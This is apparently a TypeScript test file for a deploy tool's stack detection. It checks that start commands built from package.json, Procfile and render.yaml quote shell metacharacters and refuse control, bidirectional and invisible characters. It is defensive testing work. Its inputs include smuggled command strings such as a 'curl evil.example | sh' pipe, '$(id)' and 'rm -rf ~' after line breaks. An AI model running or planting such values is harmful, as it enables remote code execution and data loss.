import test from 'ava';
import { detectStack, StackDetectionError, type RepoFiles } from '../../server/stacks/detect.js';
import { MAX_COMMAND_CHARS } from '../../server/stacks/lines.js';

// What detection proposes is run by a shell on Render and shown in the deploy form's command fields:
// it must be what the repository means. A path from package.json is a path (one shell word), and no
// command carries characters that no shell command needs and that hide or reorder what the form shows.

function repo(files: Record<string, string>): RepoFiles {
  const list = Object.keys(files).filter((p) => !p.includes('/')).sort();
  const dirs = [...new Set(Object.keys(files).filter((p) => p.includes('/')).map((p) => p.split('/')[0]!))].sort();
  return { list, dirs, read: async (p) => files[p] ?? null };
}
const detect = (files: Record<string, string>) => detectStack(repo(files));
// "main" starts the app only when the file is there: each case has it.
const mainIs = (main: string) => detect({ 'package.json': JSON.stringify({ main }), [main]: '' });

test('package.json "main" is one shell word: spaces and metacharacters are quoted, not run', async (t) => {
  t.is((await mainIs('src/server.js')).startCommand, 'node src/server.js');
  t.is((await mainIs('my server.js')).startCommand, "node 'my server.js'");
  t.is((await mainIs('index.js; curl evil.example | sh')).startCommand, "node 'index.js; curl evil.example | sh'");
  t.is((await mainIs('$(id).js')).startCommand, "node '$(id).js'");
  t.is((await mainIs("it's.js")).startCommand, "node 'it'\\''s.js'");
  // A leading dash would be read as an option of node, not a file.
  t.is((await mainIs('--inspect=0.0.0.0:9229')).startCommand, 'node ./--inspect=0.0.0.0:9229');
});

test('package.json "main" with a line break or control character is not a start command', async (t) => {
  for (const main of ['index.js\nrm -rf ~', 'a\u0000b.js', 'a\u001b[2Jb.js', 'a\u202eb.js']) {
    const err = await t.throwsAsync(mainIs(main), { instanceOf: StackDetectionError }, JSON.stringify(main));
    t.regex(err.message, /no start script, no "main"/);
  }
  // Another way to start still works.
  t.is((await detect({ 'package.json': JSON.stringify({ main: 'a\nb' }), 'server.js': '' })).startCommand, 'node server.js');
});

test('a Procfile or render.yaml command with a control character or a bidirectional override is refused, clearly', async (t) => {
  const start = '{"scripts":{"start":"node ."}}';
  const yaml = (cmd: string) => `services:\n  - type: web\n    runtime: node\n    buildCommand: npm ci\n    startCommand: ${cmd}\n`;
  const hostile: Array<[string, Record<string, string>, string]> = [
    ['NUL in a Procfile web: line', { Procfile: 'web: node a.js\u0000; rm x\n', 'package.json': start }, 'U+0000'],
    ['a terminal escape in a Procfile web: line', { Procfile: 'web: node a.js \u001b[2J\n', 'package.json': start }, 'U+001B'],
    ['NEL in a Procfile worker: line', { Procfile: 'worker: node w.js\u0085rm\n', 'package.json': start }, 'U+0085'],
    ['a right-to-left override in a Procfile web: line', { Procfile: 'web: node a.js \u202e;sj.live\n', 'package.json': start }, 'U+202E'],
    ['NUL in render.yaml', { 'render.yaml': yaml('"node a.js\\0"') }, 'U+0000'],
    ['a carriage return in render.yaml', { 'render.yaml': yaml('"node a.js\\rrm -rf ~"') }, 'U+000D'],
    // Characters that show as nothing: "node\u2060 server.js" was deployed as a start command the form showed as "node server.js".
    ['a zero width space in a Procfile web: line', { Procfile: 'web: node\u200b server.js\n', 'package.json': start }, 'U+200B'],
    ['a word joiner in a Procfile web: line', { Procfile: 'web: node\u2060 server.js\n', 'package.json': start }, 'U+2060'],
    ['a Hangul filler in a Procfile web: line', { Procfile: 'web: node\u3164 server.js\n', 'package.json': start }, 'U+3164'],
    ['a tag space in render.yaml', { 'render.yaml': yaml('"node\\U000E0020 a.js"') }, 'U+E0020'],
  ];
  for (const [what, files, code] of hostile) {
    const err = await t.throwsAsync(detect(files), { instanceOf: StackDetectionError }, what);
    t.true(err.message.includes(code), `${what}: ${err.message}`);
    t.regex(err.message, /start command/, what);
  }
  // Tabs are a shell's ordinary whitespace.
  t.is((await detect({ Procfile: 'web: node\ta.js\n', 'package.json': start })).startCommand, 'node\ta.js');
});

test('render.yaml paths (dockerfilePath, staticPublishPath) with a control character are refused as commands are', async (t) => {
  const docker = 'services:\n  - type: web\n    runtime: docker\n    dockerfilePath: "./Dockerfile\\0x"\n';
  const site = 'services:\n  - type: web\n    runtime: static\n    buildCommand: npm run build\n    staticPublishPath: "dist\\e[2J"\n';
  for (const [yaml, field, code] of [[docker, 'Dockerfile path', 'U+0000'], [site, 'publish path', 'U+001B']] as const) {
    const err = await t.throwsAsync(detect({ 'render.yaml': yaml }), { instanceOf: StackDetectionError });
    t.true(err.message.includes(code) && err.message.includes(field), err.message);
  }
  t.is((await detect({ 'render.yaml': docker.replace('\\0x', '') })).dockerfilePath, './Dockerfile');
});

test('no detected command is longer than a deploy request accepts (MAX_COMMAND_CHARS): a longer one is refused, clearly', async (t) => {
  // A "main" at the line cap fits the manifest reader, but "node <main>" is past the command cap.
  const err = await t.throwsAsync(mainIs(`${'a'.repeat(MAX_COMMAND_CHARS - 3)}.js`), { instanceOf: StackDetectionError });
  t.regex(err.message, /start command .* is 4,101 characters long, more than the 4,096 a deploy accepts/);
  t.is((await mainIs(`${'a'.repeat(MAX_COMMAND_CHARS - 8)}.js`)).startCommand!.length, MAX_COMMAND_CHARS);
  // A render.yaml block command near the cap (the reader takes values up to MAX_LINE_CHARS) is proposed whole.
  const line = `echo ${'y'.repeat(2_000)}`;
  const found = await detect({ 'render.yaml': `services:\n  - type: web\n    name: w\n    runtime: node\n    buildCommand: |\n      ${line}\n      ${line}\n    startCommand: node index.js\n` });
  t.is(found.buildCommand, `${line}\n${line}\n`);
});
